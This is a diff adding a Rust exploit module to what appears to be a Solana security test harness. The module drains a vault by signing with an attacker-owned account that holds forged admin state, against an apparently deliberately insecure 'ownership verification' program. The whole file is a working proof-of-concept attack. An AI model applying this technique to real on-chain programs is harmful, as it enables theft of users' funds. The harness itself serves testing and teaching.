@@ -0,0 +1,109 @@
+use solana_sdk::{
+    account::Account,
+    instruction::{AccountMeta, Instruction},
+    native_token::LAMPORTS_PER_SOL,
+    program_error::ProgramError,
+    pubkey::Pubkey,
+    signature::Keypair,
+    signer::Signer,
+    system_program,
+};
+
+use crate::{Env, Error, Exploit, Location, Program, Result, Severity, OWNERSHIP_VERIFICATION};
+
+const VAULT_LAMPORTS: u64 = 10 * LAMPORTS_PER_SOL;
+
+/// Signs with an attacker-owned account holding a forged `ProgramState`, which
+/// the program reads as the admin state, and withdraws the whole vault.
+#[derive(Default)]
+pub struct ForgedAdmin {
+    vault: Pubkey,
+    fake_admin: Option<Keypair>,
+}
+
+impl Exploit for ForgedAdmin {
+    fn name(&self) -> &'static str {
+        "ownership-verification"
+    }
+
+    fn program(&self) -> Program {
+        OWNERSHIP_VERIFICATION
+    }
+
+    fn summary(&self) -> &'static str {
+        "drain the vault with admin state forged in an account the program does not own"
+    }
+
+    fn severity(&self) -> Severity {
+        Severity::Critical
+    }
+
+    fn location(&self) -> Location {
+        Location {
+            instruction: "ownership_verification::process_instruction",
+            file: "programs/ownership_verification/src/insecure.rs",
+            symbol: "process_instruction",
+        }
+    }
+
+    fn setup(&mut self, env: &mut Env) -> Result<()> {
+        self.vault = Pubkey::new_unique();
+        env.set_account(
+            self.vault,
+            Account {
+                lamports: VAULT_LAMPORTS,
+                data: vec![],
+                owner: OWNERSHIP_VERIFICATION.id,
+                executable: false,
+                rent_epoch: 0,
+            },
+        );
+
+        // `ProgramState { admin: fake_admin, vault_amount: 0 }`, owned by a program the attacker controls
+        let fake_admin = Keypair::new();
+        let mut state = fake_admin.pubkey().to_bytes().to_vec();
+        state.extend_from_slice(&0u64.to_le_bytes());
+        env.set_account(
+            fake_admin.pubkey(),
+            Account {
+                lamports: env.rent_exempt(state.len()),
+                data: state,
+                owner: Pubkey::new_unique(),
+                executable: false,
+                rent_epoch: 0,
+            },
+        );
+        self.fake_admin = Some(fake_admin);
+        Ok(())
+    }
+
+    fn attack(&mut self, env: &mut Env) -> Result<()> {
+        let fake_admin = self.fake_admin.as_ref().expect("setup ran");
+        let mut data = vec![0];
+        data.extend_from_slice(&VAULT_LAMPORTS.to_le_bytes());
+        let ix = Instruction::new_with_bytes(
+            OWNERSHIP_VERIFICATION.id,
+            &data,
+            vec![
+                AccountMeta::new(fake_admin.pubkey(), true),
+                AccountMeta::new(self.vault, false),
+                AccountMeta::new_readonly(system_program::id(), false),
+            ],
+        );
+        env.send(&[ix], &[fake_admin])?;
+        Ok(())
+    }
+
+    fn assert_compromised(&self, env: &Env) -> Result<()> {
+        match env.lamports(&self.vault) {
+            0 => Ok(()),
+            left => Err(Error::NotCompromised(format!(
+                "vault still holds {left} lamports"
+            ))),
+        }
+    }
+
+    fn expected_error(&self) -> Option<ProgramError> {
+        Some(ProgramError::IncorrectProgramId)
+    }
+}